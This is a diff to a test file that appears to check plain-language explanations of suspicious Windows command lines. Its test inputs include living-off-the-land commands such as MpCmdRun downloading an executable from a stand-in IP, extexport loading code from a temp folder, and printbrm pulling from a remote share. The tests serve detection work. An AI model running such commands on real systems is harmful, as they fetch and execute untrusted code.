@@ -120,8 +120,16 @@ describe("a sentence", () => {
       /kiwi\.dll\. It loads this library, which lies loose in a temporary folder: what is unpacked there has a folder of its own\./,
     ],
     [
+      "extexport C:\\Windows\\Temp\\pkg a b",
+      /given: C:\\Windows\\Temp\\pkg\. It loads what is in this folder from a temporary folder, in which programs are not normally kept\./,
+    ],
+    [
+      "MpCmdRun -DownloadFile -url http://198.51.100.7/a.exe -path C:\\Users\\Public\\k.exe",
+      /a file: the program http:\/\/198\.51\.100\.7\/a\.exe\. It takes this program from the web\./,
+    ],
+    [
       "printbrm -b -d \\\\198.51.100.7\\pub\\kiwi -f C:\\k\\a.zip",
-      /a folder into a file: the folder \\\\198\.51\.100\.7\\pub\\kiwi\. It takes this folder from a network share\./,
+      /a folder into a file: the folder \\\\198\.51\.100\.7\\pub\\kiwi\. It takes what is in this folder from a network share\./,
     ],
     ["wscript kiwi.vbs", /It names this script without a folder, so the working directory decides what runs\./],
   ])("says what it names in full once: %s", (commandLine, says) => {
